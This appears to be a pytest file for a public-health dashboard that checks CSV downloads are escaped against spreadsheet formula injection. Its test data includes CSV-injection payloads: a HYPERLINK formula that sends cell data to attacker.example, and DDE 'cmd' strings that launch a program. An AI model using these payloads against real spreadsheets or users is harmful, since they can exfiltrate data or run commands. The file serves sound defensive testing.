"""Every CSV the dashboard hands out escapes cells a spreadsheet would run as formulas.

Area names in the store are replaced by hostile ones (`=HYPERLINK(...)`, `+cmd|...`,
`@SUM(...)`, `-2+3`, a leading tab) and a load is logged by a user named like a formula;
then every page's download callbacks are run through the real app and each CSV is read
back: no text cell starts with `=`, `+`, `-`, `@`, a tab or a carriage return unless it is
a plain number, and the hostile names are there with their escaping quote.
"""

from __future__ import annotations

import base64
import csv
import io
import re

import pytest

from callbacks.pages import PAGES
from data import load_log
from data.csv_safety import FORMULA_STARTS
from data.store import make_engine
from tests.hostile import sample_store
from tests.support.dash_requests import collect_components, page_bodies, post, request_body

AREA = "E06000008"
HOSTILE = {
    "E06000008": '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "E06000009": "+cmd|' /C calc'!A0",
    "E06000007": "@SUM(1+1)*cmd|' /C calc'!A0",
    "E06000006": "-2+3+cmd|' /C calc'!A0",
    "E12000002": "\t=1+1 region",
}
HOSTILE_USER = "=HYPERLINK(\"http://attacker.example\")"
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory, sample_stores):
    folder = tmp_path_factory.mktemp("hostile-downloads")
    settings = sample_store(sample_stores, folder, HOSTILE.get)
    engine = make_engine(settings)
    load_log.record_refused(engine, HOSTILE_USER, [{"name": "=1+1.csv", "sha256": "0",
                                                    "source": "births_deaths"}], ["births_deaths"],
                            "again.csv: refused")
    engine.dispose()
    from app import create_app

    return create_app(settings), settings


def _download_csvs(app) -> dict[str, str]:
    """{output id: CSV text} for every download callback of every page, for AREA."""
    client = app.server.test_client()
    dependencies = client.get("/_dash-dependencies").get_json()
    found: dict[str, str] = {}
    for path in (page.path for page in PAGES):
        # The page's components as its first view leaves them, then every button clicked.
        components = collect_components(client.get("/_dash-layout").get_json(), {})
        components["url"] = ("url", {"pathname": path, "search": f"?area={AREA}"})
        router = next(d for d in dependencies if "page-content.children" in d["output"])
        _s, answer = post(client, request_body(router, components))
        collect_components(answer["response"]["page-content"]["children"], components)
        for _label, body in page_bodies(client, path, f"?area={AREA}")[1:]:
            _s, answer = post(client, body)
            for _cid, outputs in (answer.get("response") or {}).items():
                for _prop, value in outputs.items():
                    if isinstance(value, dict) and "props" in value:
                        collect_components(value, components)
        for dependency in dependencies:
            output = dependency["output"]
            if not output.endswith(".data") or "download" not in output or "pack" in output:
                continue
            for item in dependency["inputs"]:
                if item["id"] in components:
                    components[item["id"]][1]["n_clicks"] = 1
            body = request_body(dependency, components)
            if body is None:
                continue
            _s, answer = post(client, body)
            sent = next(iter(answer.get("response", {}).values()), {}).get("data")
            if not sent:
                continue
            # Only CSVs: the board pack (HTML, and since the scorecard an A4 PDF) is no CSV.
            if not str(sent.get("filename", "")).endswith(".csv"):
                continue
            content = sent["content"]
            found[output] = base64.b64decode(content).decode() if sent.get("base64") else content
    return found


@pytest.fixture(scope="module")
def downloads(hostile_app) -> dict[str, str]:
    return _download_csvs(hostile_app[0])


def test_every_page_download_was_run(downloads):
    expected = {"trends-download.data", "inequalities-download.data", "child-deaths-download.data",
                "compare-download.data", "data-history-download.data", "data-flags-download.data",
                "overview-csv-download.data"}
    assert expected <= set(downloads), sorted(downloads)


def test_no_cell_in_any_download_runs_as_a_formula(downloads):
    for output, text in downloads.items():
        for number, row in enumerate(csv.reader(io.StringIO(text)), start=1):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    assert NUMBER.fullmatch(cell), f"{output} row {number}: {cell!r}"


def test_the_hostile_names_are_there_as_text(downloads):
    compare = downloads["compare-download.data"]
    assert "'" + HOSTILE[AREA] in list(csv.reader(io.StringIO(compare)))[1:][0] or \
        any(("'" + HOSTILE[AREA]) in row for row in csv.reader(io.StringIO(compare)))
    trends = [row for row in csv.reader(io.StringIO(downloads["trends-download.data"]))]
    assert any("'" + HOSTILE[AREA] in row for row in trends)
    history = list(csv.DictReader(io.StringIO(downloads["data-history-download.data"])))
    assert any(row["user"] == "'" + HOSTILE_USER for row in history)
    assert any(row["files"].startswith("'=1+1.csv") for row in history)


def test_negative_numbers_stay_numbers(downloads):
    # The inequality measures include a slope index that may be negative; wherever a cell
    # is a negative number it is written without a quote.
    cells = [cell for text in downloads.values() for row in csv.reader(io.StringIO(text))
             for cell in row]
    assert not any(cell.startswith("'-") and NUMBER.fullmatch(cell[1:]) for cell in cells)


def test_command_line_export_is_escaped(hostile_app, tmp_path):
    from data.export import export_fingertips, write_fingertips_csv

    engine = make_engine(hostile_app[1])
    out = io.StringIO()
    write_fingertips_csv(export_fingertips(engine, "infant_mortality"), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert any(r["Area Name"] == "'" + HOSTILE[AREA] for r in rows)
    assert all(not r["Area Name"].startswith(FORMULA_STARTS) for r in rows)
    engine.dispose()
